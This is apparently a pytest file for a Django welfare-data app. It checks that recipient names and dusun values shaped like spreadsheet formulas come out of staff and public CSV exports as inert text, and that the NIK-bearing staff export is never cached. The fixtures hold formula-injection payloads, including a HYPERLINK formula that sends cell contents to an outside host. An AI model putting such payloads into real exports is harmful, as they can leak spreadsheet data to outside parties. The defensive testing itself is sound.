"""Recipient names and dusun that look like spreadsheet formulas come out of every welfare
download as text. The staff export carries NIKs, so no browser or proxy may keep a copy."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.urls import reverse

from balai.population.models import Area
from balai.welfare.figures import figures_recompute
from balai.welfare.models import Recipient

FORMULA = '=HYPERLINK("http://x/?"&A2)'
NAMES = [FORMULA, "@SUM(A1:A9)", "+6281234567890", "-2+3", "SRI WAHYUNI"]


def _rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.fixture
def recipients(dagan, register, blt):
    Area.objects.filter(village=dagan, rt="001").update(dusun=FORMULA)
    for n, name in enumerate(NAMES):
        person = register[1 + n % 4][n // 4]
        Recipient.objects.create(
            village=dagan,
            programme=blt,
            resident=person,
            name=name,
            area=person.area,
            card_number="-4500" if n == 0 else "KKS 17",
            start=date(2026, 1, 1),
            amount=300_000,
        )
    figures_recompute(village=dagan)
    return register


@pytest.mark.django_db
def test_the_staff_export_neutralises_formulas_and_is_never_stored(client, alice, blt, recipients):
    client.force_login(alice)
    url = reverse("welfare_dashboard:export", kwargs={"slug": "dagan", "pk": blt.pk})
    response = client.post(url)
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
    rows = _rows(response)
    assert rows[0][:3] == ["nik", "no_kk", "nama"]
    names = [row[2] for row in rows[1:]]
    assert sorted(names) == sorted(
        ["'" + FORMULA, "'@SUM(A1:A9)", "+6281234567890", "'-2+3", "SRI WAHYUNI"]
    )
    by_name = {row[2]: row for row in rows[1:]}
    assert by_name["'" + FORMULA][0] == recipients[1][0].nik  # the NIK sits beside it, inert
    assert by_name["'" + FORMULA][3] == "-4500"  # a plain negative number stays a number
    assert by_name["SRI WAHYUNI"][6] == "300000"


@pytest.mark.django_db
def test_a_formula_dusun_is_text_in_the_public_welfare_csv(client, recipients):
    for url in (
        "/desa/dagan/bantuan-sosial/data-wilayah.csv",
        "/desa/dagan/bantuan-sosial/data-rw.csv",
    ):
        response = client.get(url)
        cells = [cell for row in _rows(response) for cell in row]
        assert not any(c.startswith("=") for c in cells)
        assert any(c.startswith("'" + FORMULA) for c in cells)
        assert "no-store" not in response.get("Cache-Control", "")
